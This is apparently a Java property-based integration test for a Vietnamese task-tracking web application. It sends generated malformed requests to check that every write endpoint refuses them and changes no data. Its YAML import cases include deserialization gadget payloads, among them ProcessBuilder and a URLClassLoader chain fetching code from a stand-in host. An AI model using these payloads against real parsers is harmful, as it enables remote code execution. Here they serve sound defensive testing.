package vn.gov.tasktracking.security;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.regex.Pattern;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.ShrinkingMode;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import net.jqwik.api.statistics.Statistics;
import org.camunda.bpm.engine.ManagementService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.TaskService;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.context.ApplicationContext;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.context.TestContextManager;
import vn.gov.tasktracking.TestPeople;
import vn.gov.tasktracking.directory.DirectoryService;

/**
 * 1,000 generated malformed requests, spread over every write endpoint of /api, sent over HTTP to
 * the running application as the Office specialist, an administrator or a unit's officer (issue 12,
 * L). None may answer 5xx; each is refused with the product's JSON and a Vietnamese message; none
 * changes a row of the product's tables or of the engine's executions, tasks and variables.
 *
 * <p>Every generated request carries at least one value the product must refuse whatever the rest
 * holds (a control character, a null list element, a date outside 1900–2100, a wrong JSON type, a
 * value longer than a column that is always checked, a broken body, a wrong content type, a broken
 * multipart body, a YAML tag or repeated key), so a request that is accepted is a finding. The
 * seed is fixed: CI sends the same 1,000 requests every time.
 *
 * <p>jqwik runs on the JUnit Platform beside Jupiter and knows no Spring extension; the
 * application is Spring's cached test context, the same one the other ITs with a random port use.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT)
class MalformedRequestsPropertyIT {

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final Pattern VIETNAMESE =
      Pattern.compile("(?s).*[àáạảãâầấậẩẫăằắặẳẵèéẹẻẽêềếệểễìíịỉĩòóọỏõôồốộổỗơờớợởỡùúụủũưừứựửữỳýỵỷỹđĐ].*");
  private static final List<String> TABLES = List.of(
      "unit", "person", "person_role", "directory_import", "document", "directive", "assigned_task", "task_coordination",
      "task_status_change", "task_progress", "task_submission", "notification", "notification_log", "task_reminder",
      "task_explanation", "task_extension", "calendar_year", "inspection", "inspection_member", "inspection_late_task",
      "inspection_finding", "inspection_requirement", "inspection_petition",
      "ACT_RU_EXECUTION", "ACT_RU_TASK", "ACT_RU_VARIABLE", "ACT_RU_JOB", "ACT_ID_USER", "ACT_ID_GROUP", "ACT_ID_MEMBERSHIP");
  private static final List<String> EVERYONE = List.of(TestPeople.OFFICE_SPECIALIST, TestPeople.ADMIN, TestPeople.SXD_OFFICER);
  private static final Map<String, Integer> TRIED = new ConcurrentHashMap<>();

  private static ApiClient api;
  private static JdbcClient jdbc;
  /** A task of SXD at its result step, its officer TestPeople.SXD_OFFICER. */
  private static String task;
  /** A document none of the three callers uploaded. */
  private static long othersDocument;

  @BeforeContainer
  static void application() throws Exception {
    ApplicationContext context = new TestContextManager(MalformedRequestsPropertyIT.class).getTestContext().getApplicationContext();
    TestPeople.ensure(context.getBean(DirectoryService.class));
    api = new ApiClient(Integer.parseInt(context.getEnvironment().getProperty("local.server.port")));
    jdbc = context.getBean(JdbcClient.class);
    RegisterFixtures register = new RegisterFixtures(api, context.getBean(RuntimeService.class), context.getBean(TaskService.class),
        context.getBean(ManagementService.class));
    task = register.register("SXD", null);
    register.accept(task, TestPeople.SXD_OFFICER);
    othersDocument = register.upload(TestPeople.CAOLOC_OFFICER, "cua-cao-loc.pdf", "application/pdf", "%PDF-1.4 Cao Lộc");
  }

  @AfterContainer
  static void everyEndpointWasTried() {
    assertThat(TRIED.keySet()).as("endpoints tried").containsExactlyInAnyOrderElementsOf(
        Arrays.stream(Endpoint.values()).map(Enum::name).toList());
    assertThat(TRIED.values()).allMatch(n -> n >= 20);
  }

  @Property(tries = 1000, seed = "20261202", shrinking = ShrinkingMode.OFF)
  void malformedRequestsAreRefusedInVietnameseAndChangeNothing(@ForAll("malformedRequests") Malformed request) {
    TRIED.merge(request.endpoint().name(), 1, Integer::sum);
    Statistics.label("endpoint").collect(request.endpoint());
    Map<String, Long> before = rowCounts();

    ApiClient.Answer answer = api.send(request.user(), request.method(), request.path(), request.contentType(), request.body());

    Statistics.label("status").collect(answer.status());
    assertThat(answer.status()).as("%s\n→ %s", request, answer.abbreviated()).isBetween(400, 499);
    // A wrong content type is refused by Spring MVC itself before any endpoint; its Vietnamese
    // body belongs to the REST gate of issue 12. The status and the unchanged rows are checked here.
    if (answer.status() != 415) {
      assertThat(answer.json().get("message")).as("%s\n→ %s", request, answer.abbreviated()).asString().matches(VIETNAMESE);
    }
    assertThat(rowCounts()).as("%s\n→ %s", request, answer.abbreviated()).isEqualTo(before);
  }

  /** A request as sent: the body as raw bytes, so nothing on the way repairs it. */
  record Malformed(Endpoint endpoint, String user, String method, String path, String contentType, byte[] body) {
    @Override
    public String toString() {
      String text = body == null ? "" : new String(body, StandardCharsets.UTF_8);
      return method + " " + path + " as " + user + " (" + contentType + "): "
          + (text.length() > 400 ? text.substring(0, 400) + "… (" + text.length() + " chars)" : text);
    }
  }

  enum Endpoint {
    DIRECTIVES, PROGRESS, RESULT, WITHDRAW, EXTENSIONS, DOCUMENTS, DIRECTORY_IMPORT, DIRECTORY_UNIT, DIRECTORY_PERSON,
    CALENDAR, INSPECTION_PLAN, INSPECTION_REPORT, INSPECTION_FINDINGS, INSPECTION_CONCLUSION, TASK_IMPORT, NOTIFICATION_READ
  }

  @Provide
  Arbitrary<Malformed> malformedRequests() {
    // Edge cases stay with the values; endpoints are chosen evenly.
    return Arbitraries.of(Endpoint.class).withoutEdgeCases().flatMap(this::malformed);
  }

  private Arbitrary<Malformed> malformed(Endpoint endpoint) {
    return switch (endpoint) {
      case DIRECTIVES -> json(endpoint, "POST", Arbitraries.just("/api/directives"), List.of(
          field("number", text(20), badText(64, true)),
          field("issuedOn", date(), badDate()),
          field("issuerKind", Arbitraries.of("COMMITTEE", "CHAIRMAN"), badText(32, false)),
          field("excerpt", text(40), badText(3000, true)),
          field("documentId", Arbitraries.just(othersDocument), Arbitraries.oneOf(wrongType(), Arbitraries.just(othersDocument))),
          field("tasks", directiveTasks(), badTasks())));
      case PROGRESS -> json(endpoint, "POST", Arbitraries.just("/api/tasks/" + task + "/progress"), List.of(
          field("percent", Arbitraries.integers().between(0, 100).map(i -> i), badPercent()),
          field("note", text(40), badText(3000, true))));
      case RESULT -> json(endpoint, "POST", Arbitraries.just("/api/tasks/" + task + "/result"), List.of(
          field("resultText", text(40), badText(3000, true)),
          field("documentRef", text(20), badText(255, true)),
          field("documentId", Arbitraries.just(othersDocument), Arbitraries.oneOf(wrongType(), Arbitraries.just(othersDocument)))));
      case WITHDRAW -> json(endpoint, "POST", Arbitraries.just("/api/tasks/" + task + "/withdraw"), List.of(
          field("reason", text(40), badText(3000, true))));
      case EXTENSIONS -> json(endpoint, "POST", Arbitraries.just("/api/tasks/" + task + "/extensions"), List.of(
          field("reason", text(40), badText(3000, true)),
          field("proposedDeadline", Arbitraries.just("2099-12-31"), badDate())));
      case DIRECTORY_UNIT -> json(endpoint, "PUT", Arbitraries.of("/api/directory/units/ITSEC", "/api/directory/units/itsec-chu-thuong"), List.of(
          field("name", text(30), badText(255, true)),
          field("kind", Arbitraries.of("DEPARTMENT"), badText(32, false)),
          field("parent", Arbitraries.just("VPUBND"), badText(32, true)),
          field("active", Arbitraries.of(true), badBoolean())));
      case DIRECTORY_PERSON -> json(endpoint, "PUT", Arbitraries.of("/api/directory/people/it.sec.moi", "/api/directory/people/A"), List.of(
          field("fullName", text(30), badText(255, true)),
          field("title", text(20), badText(255, true)),
          field("email", Arbitraries.just("it.sec.moi@example.vn"), badText(255, true)),
          field("phone", Arbitraries.just("0205 3812 345"), badText(32, true)),
          field("unit", Arbitraries.just("SXD"), badText(32, true)),
          field("roles", Arbitraries.just(List.of("OFFICER")), badTextList(32)),
          field("password", Arbitraries.just("Mat-khau-moi-2026"), badText(255, true))));
      case CALENDAR -> calendar();
      case INSPECTION_PLAN -> json(endpoint, "POST", Arbitraries.just("/api/inspections"), List.of(
          field("unit", Arbitraries.just("SXD"), badText(32, true)),
          field("periodFrom", Arbitraries.just("2026-01-01"), badDate()),
          field("periodTo", Arbitraries.just("2026-06-30"), badDate()),
          field("visitDate", date(), badDate()),
          field("leader", Arbitraries.just(TestPeople.OFFICE_SPECIALIST), badText(64, true)),
          field("members", Arbitraries.just(List.of(TestPeople.ADMIN)), badTextList(64)),
          field("content", text(40), badText(3000, true))));
      case INSPECTION_REPORT -> json(endpoint, "POST", inspectionPath("report"), List.of(
          field("keyResults", text(40), badText(3000, true)),
          field("difficulties", text(40), badText(3000, true)),
          field("petitions", Arbitraries.just(List.of("Kiến nghị")), badTextList(3000)),
          field("explanations", Arbitraries.just(List.of()), Arbitraries.oneOf(nullElementList(), wrongType()))));
      case INSPECTION_FINDINGS -> json(endpoint, "POST", inspectionPath("findings"), List.of(
          field("findings", Arbitraries.just(List.of("Phát hiện")), badTextList(3000)),
          field("done", Arbitraries.of(false), badBoolean())));
      case INSPECTION_CONCLUSION -> json(endpoint, "POST", inspectionPath("conclusion"), List.of(
          field("assessment", text(40), badText(3000, true)),
          field("requirements", Arbitraries.just(List.of(Map.of("content", "Yêu cầu", "deadline", "2099-12-31"))),
              Arbitraries.oneOf(nullElementList(), wrongType(),
                  badDate().map(d -> List.of(mapOf("content", "Yêu cầu", "deadline", d)))))));
      case DOCUMENTS -> multipart(endpoint, "/api/documents", EVERYONE, false);
      case TASK_IMPORT -> multipart(endpoint, "/api/imports/tasks", List.of(TestPeople.OFFICE_SPECIALIST, TestPeople.ADMIN), true);
      case DIRECTORY_IMPORT -> directoryFile();
      case NOTIFICATION_READ -> Combinators.combine(Arbitraries.of(EVERYONE),
              Arbitraries.of("abc", "1.5", "99999999999999999999", "-", "%20", "1e3", "mot"))
          .as((user, id) -> new Malformed(Endpoint.NOTIFICATION_READ, user, "POST", "/api/notifications/" + id + "/read", null, null));
    };
  }

  // ---- JSON endpoints ----------------------------------------------------------------------

  /** A field: a value the endpoint would take (or none), and values it must refuse. */
  private record Field(String name, Arbitrary<Object> valid, Arbitrary<Object> bad) {}

  @SuppressWarnings("unchecked")
  private static Field field(String name, Arbitrary<?> valid, Arbitrary<?> bad) {
    return new Field(name, (Arbitrary<Object>) valid, (Arbitrary<Object>) bad);
  }

  /**
   * A JSON object with every field valid or left out except at least one bad one; or a body broken
   * as a whole; or a content type the endpoint does not read.
   */
  private Arbitrary<Malformed> json(Endpoint endpoint, String method, Arbitrary<String> path, List<Field> fields) {
    List<Arbitrary<Object>> valid = fields.stream().map(f -> Arbitraries.oneOf(f.valid(), Arbitraries.just(ABSENT))).toList();
    Arbitrary<Map<String, Object>> object = Combinators.combine(
            Combinators.combine(valid).as(values -> values),
            Arbitraries.integers().between(0, fields.size() - 1).list().ofMinSize(1).ofMaxSize(3),
            Arbitraries.integers().between(0, 1_000_000))
        .flatAs((values, badIndexes, salt) -> {
          List<Arbitrary<Object>> bad = badIndexes.stream().map(i -> fields.get(i).bad()).toList();
          return Combinators.combine(bad).as(badValues -> {
            Map<String, Object> body = new LinkedHashMap<>();
            for (int i = 0; i < fields.size(); i++) {
              if (values.get(i) != ABSENT) {
                body.put(fields.get(i).name(), values.get(i));
              }
            }
            for (int i = 0; i < badIndexes.size(); i++) {
              body.put(fields.get(badIndexes.get(i)).name(), badValues.get(i));
            }
            return body;
          });
        });
    Arbitrary<byte[]> wellFormed = object.map(MalformedRequestsPropertyIT::bytes);
    Arbitrary<byte[]> broken = Arbitraries.oneOf(
        object.map(MalformedRequestsPropertyIT::bytes).flatMap(b -> Arbitraries.integers().between(1, b.length - 1)
            .map(cut -> Arrays.copyOf(b, cut))),
        Arbitraries.of("", "null", "[]", "[null]", "\"văn bản\"", "42", "true", "{", "{\"a\":}", "{'number':'1'}", "<xml/>")
            .map(s -> s.getBytes(StandardCharsets.UTF_8)),
        Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(200).map(b -> { b[0] = (byte) 0xff; return b; }));
    Arbitrary<String> contentType = Arbitraries.frequencyOf(
        net.jqwik.api.Tuple.of(15, Arbitraries.just("application/json")),
        net.jqwik.api.Tuple.of(1, Arbitraries.of("text/plain", "application/xml", "application/x-www-form-urlencoded")));
    return Combinators.combine(Arbitraries.of(EVERYONE), path, contentType,
            Arbitraries.frequencyOf(net.jqwik.api.Tuple.of(4, wellFormed), net.jqwik.api.Tuple.of(1, broken)))
        .as((user, p, type, body) -> new Malformed(endpoint, user, method, p, type, body));
  }

  private static final Object ABSENT = new Object();

  private Arbitrary<String> inspectionPath(String step) {
    return Arbitraries.of("/api/inspections/987654321/" + step, "/api/inspections/abc/" + step, "/api/inspections/-1/" + step);
  }

  private Arbitrary<Object> directiveTasks() {
    return Arbitraries.just(List.of(mapOf("content", "Nhiệm vụ sinh ngẫu nhiên", "leadUnit", "SXD", "deadline", "2099-12-31")));
  }

  private Arbitrary<Object> badTasks() {
    Arbitrary<Object> badTask = Combinators.combine(
            Arbitraries.oneOf(text(30), badText(3000, true)), Arbitraries.oneOf(Arbitraries.just("SXD"), badText(32, true)),
            Arbitraries.oneOf(Arbitraries.just(List.of()), badTextList(32)), Arbitraries.oneOf(Arbitraries.just("2099-12-31"), badDate()),
            Arbitraries.integers().between(0, 4))
        .as((content, unit, coordinating, deadline, which) -> {
          // whichever the others are, one of them is bad
          Object[] values = {content, unit, coordinating, deadline};
          values[which % 4] = switch (which % 4) {
            case 0 -> "\u0000" + content;
            case 1 -> List.of(unit);
            case 2 -> Arrays.asList("STC", null);
            default -> "-0001-01-01";
          };
          return (Object) List.of(mapOf("content", values[0], "leadUnit", values[1], "coordinatingUnits", values[2], "deadline", values[3]));
        });
    return Arbitraries.oneOf(badTask, nullElementList(), wrongType(), Arbitraries.just(List.of(List.of())));
  }

  private Arbitrary<Malformed> calendar() {
    Arbitrary<String> badYear = Arbitraries.of("0", "1899", "2200", "-1", "99999", "2147483647", "năm", "2031.5");
    Arbitrary<Object> day = Combinators.combine(Arbitraries.oneOf(Arbitraries.just("2031-09-01"), badDate()),
            Arbitraries.oneOf(text(20), badText(255, true)))
        .as((date, note) -> mapOf("date", date, "note", note));
    Arbitrary<byte[]> badBody = Arbitraries.oneOf(
            nullElementList().map(list -> mapOf("extraDaysOff", list)),
            wrongType().map(w -> mapOf("swappedWorkingDays", w)),
            Combinators.combine(badDate(), badDate()).as((a, b) -> mapOf("tet", mapOf("firstDay", a, "lastDay", b))),
            Combinators.combine(day, badText(255, true)).as((d, note) -> mapOf("extraDaysOff", List.of(d, mapOf("date", "2031-09-03", "note", note)))))
        .map(MalformedRequestsPropertyIT::bytes);
    Arbitrary<Malformed> wrongYear = Combinators.combine(Arbitraries.of(EVERYONE), badYear)
        .as((user, year) -> new Malformed(Endpoint.CALENDAR, user, "PUT", "/api/calendar/" + year, "application/json",
            "{\"extraDaysOff\":[]}".getBytes(StandardCharsets.UTF_8)));
    Arbitrary<Malformed> wrongBody = Combinators.combine(Arbitraries.of(EVERYONE), Arbitraries.integers().between(2031, 2099), badBody)
        .as((user, year, body) -> new Malformed(Endpoint.CALENDAR, user, "PUT", "/api/calendar/" + year, "application/json", body));
    return Arbitraries.oneOf(wrongYear, wrongBody);
  }

  // ---- Multipart and YAML endpoints -----------------------------------------------------------

  private Arbitrary<Malformed> multipart(Endpoint endpoint, String path, List<String> users, boolean workbook) {
    String boundary = "multipart/form-data; boundary=" + ApiClient.BOUNDARY;
    byte[] someFile = "%PDF-1.4 tệp".getBytes(StandardCharsets.UTF_8);
    Arbitrary<String> longName = Arbitraries.integers().between(256, 2000).map(n -> "t".repeat(n - 4) + (workbook ? ".xlsx" : ".pdf"));
    Arbitrary<String> controlName = Arbitraries.of("bao\u0001cao.pdf", "bao-cao\u001f.xlsx", "\u007fbao.pdf");
    List<Arbitrary<String[]>> shapes = new ArrayList<>(List.of(
        // content type, part name, file name, body kind
        Arbitraries.just(new String[] {"multipart/form-data", "file", "a.xlsx", "ok"}),
        Arbitraries.just(new String[] {"multipart/form-data; boundary=khac", "file", "a.xlsx", "ok"}),
        Arbitraries.of("tep", "files", "FILE", "").map(part -> new String[] {boundary, part, "a.xlsx", "ok"}),
        longName.map(name -> new String[] {boundary, "file", name, "ok"}),
        controlName.map(name -> new String[] {boundary, "file", name, "ok"}),
        Arbitraries.just(new String[] {boundary, "file", "trong.pdf", "empty"}),
        Arbitraries.just(new String[] {"application/json", "file", "a.xlsx", "ok"}),
        Arbitraries.just(new String[] {boundary, "file", "a.xlsx", "truncated"})));
    if (workbook) {
      shapes.add(Arbitraries.of("nhiem-vu.xlsx", "nhiem-vu.xls", "nhiem-vu.csv").map(name -> new String[] {boundary, "file", name, "garbage"}));
    }
    return Combinators.combine(Arbitraries.of(users), Arbitraries.oneOf(shapes), Arbitraries.bytes().array(byte[].class).ofMinSize(1).ofMaxSize(3000))
        .as((user, shape, garbage) -> {
          byte[] content = switch (shape[3]) {
            case "empty" -> new byte[0];
            case "garbage" -> garbage;
            default -> workbook ? "PK\u0003\u0004 không phải Excel".getBytes(StandardCharsets.UTF_8) : someFile;
          };
          byte[] body = ApiClient.multipart(shape[1], shape[2], "application/octet-stream", content);
          if (shape[3].equals("truncated")) {
            body = Arrays.copyOf(body, body.length / 2);
          }
          return new Malformed(endpoint, user, "POST", path, shape[0], body);
        });
  }

  private Arbitrary<Malformed> directoryFile() {
    Arbitrary<String> overlong = Combinators.combine(Arbitraries.integers().between(256, 5000), Arbitraries.of("name", "fullName", "phone", "email", "version"))
        .as((n, key) -> switch (key) {
          case "version" -> "version: " + "v".repeat(n) + "\n";
          case "name" -> "units:\n  - code: ITSEC\n    name: " + "A".repeat(n) + "\n    kind: DEPARTMENT\n";
          default -> "people:\n  - username: it.sec.moi\n    fullName: " + (key.equals("fullName") ? "A".repeat(n) : "Người Mới")
              + "\n    " + (key.equals("fullName") ? "phone: \"0205\"" : key + ": \"" + "0".repeat(n) + "\"") + "\n    unit: SXD\n    roles: [OFFICER]\n";
        });
    Arbitrary<String> yaml = Arbitraries.oneOf(
        Arbitraries.of(
            "!!java.lang.Runtime {}\n",
            "version: it\nunits:\n  - !!java.lang.Runtime {}\n",
            "units: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]\n",
            "version: !!java.lang.ProcessBuilder [[\"id\"]]\n",
            "version: !thing x\n",
            "version: a\nversion: b\n",
            "units:\n  - code: ITSEC\n    name: Một\n    name: Hai\n    kind: DEPARTMENT\n",
            "units:\n  - null\n",
            "people:\n  -\n",
            "people:\n  - username: it.sec.moi\n    fullName: Người Mới\n    unit: SXD\n    roles: [null]\n",
            "units: 5\n",
            "people: {a: 1}\n",
            "units:\n  - code: [1, 2]\n",
            "{{{\n",
            ":\n:\n",
            "version: \"\u0000\"\n",
            "version: x\u0001y\n",
            "khongco: 1\n"),
        overlong);
    return Combinators.combine(Arbitraries.of(EVERYONE), yaml,
            Arbitraries.of("application/yaml", "application/x-yaml", "text/plain", "application/json"))
        .as((user, text, type) -> new Malformed(Endpoint.DIRECTORY_IMPORT, user, "POST", "/api/directory/import", type,
            text.getBytes(StandardCharsets.UTF_8)));
  }

  // ---- Values ----------------------------------------------------------------------------------

  private static Arbitrary<String> text(int maxLength) {
    return Arbitraries.strings().withChars("aăâbcdđeêghiklmnoôơpqrstuưvxyàảãáạằẳẵắặầẩẫấậ ").ofMinLength(1).ofMaxLength(maxLength)
        .map(s -> "Sinh " + s);
  }

  /** Refused in any field: a control character, a wrong JSON type; when the field is always checked, a value over its column. */
  private static Arbitrary<Object> badText(int column, boolean alwaysChecked) {
    Arbitrary<Object> control = Combinators.combine(text(30), Arbitraries.of('\u0000', '\u0001', '\u0007', '\u0008', '\u000b', '\u000c', '\u001b', '\u001f', '\u007f'),
            Arbitraries.integers().between(0, 30))
        .as((s, c, at) -> s.substring(0, Math.min(at, s.length())) + c + s.substring(Math.min(at, s.length())));
    Arbitrary<Object> overlong = Arbitraries.oneOf(
        Arbitraries.integers().between(column + 1, column + 50).map(n -> "đ".repeat(n)),
        Arbitraries.of(column * 3 + 7, 70_000).map(n -> "x".repeat(n)));
    return alwaysChecked ? Arbitraries.oneOf(control, wrongType(), overlong) : Arbitraries.oneOf(control, wrongType());
  }

  private static Arbitrary<Object> badTextList(int column) {
    return Arbitraries.oneOf(nullElementList(), wrongType().map(w -> List.of(w)), badText(column, true).map(b -> List.of("it.quantri", b)),
        Arbitraries.just("SXD"));
  }

  private static Arbitrary<Object> nullElementList() {
    return Arbitraries.of(Arrays.asList((Object) null), Arrays.asList("SXD", null), Arrays.asList(null, null, null));
  }

  /** An object or array where a scalar belongs. */
  private static Arbitrary<Object> wrongType() {
    return Arbitraries.of(Map.of(), Map.of("giá trị", 1), List.of(), List.of(1, 2), List.of(Map.of()));
  }

  private static Arbitrary<Object> date() {
    return Arbitraries.integers().between(0, 20_000).map(d -> java.time.LocalDate.of(2027, 1, 1).plusDays(d).toString());
  }

  private static Arbitrary<Object> badDate() {
    return Arbitraries.oneOf(
        Arbitraries.of("-0001-01-01", "0000-01-01", "0001-01-01", "1899-12-31", "2101-01-01", "2200-06-15", "9999-12-31",
            "+10000-01-01", "2026-02-30", "2026-13-01", "31/12/2026", "hôm nay", "2026-11-02T25:00", "2026\u0000-11-02"),
        Arbitraries.of(10_000_000_000L, -1_000_000L, 99_999_999L),
        wrongType());
  }

  private static Arbitrary<Object> badPercent() {
    return Arbitraries.oneOf(Arbitraries.of(-1, 101, 1000, Integer.MIN_VALUE), Arbitraries.of("năm mươi", "50%", "1e3x"),
        Arbitraries.of(1.0e12, 3_000_000_000L), wrongType());
  }

  private static Arbitrary<Object> badBoolean() {
    return Arbitraries.oneOf(Arbitraries.of("có", "không", "yes", "2"), wrongType());
  }

  private static Map<String, Object> mapOf(Object... keysAndValues) {
    Map<String, Object> map = new LinkedHashMap<>();
    for (int i = 0; i < keysAndValues.length; i += 2) {
      map.put((String) keysAndValues[i], keysAndValues[i + 1]);
    }
    return map;
  }

  private static byte[] bytes(Object value) {
    try {
      return JSON.writeValueAsBytes(value);
    } catch (JsonProcessingException e) {
      throw new IllegalStateException(e);
    }
  }

  private static Map<String, Long> rowCounts() {
    Map<String, Long> counts = new LinkedHashMap<>();
    for (String table : TABLES) {
      counts.put(table, jdbc.sql("select count(*) from " + table).query(Long.class).single());
    }
    return counts;
  }
}
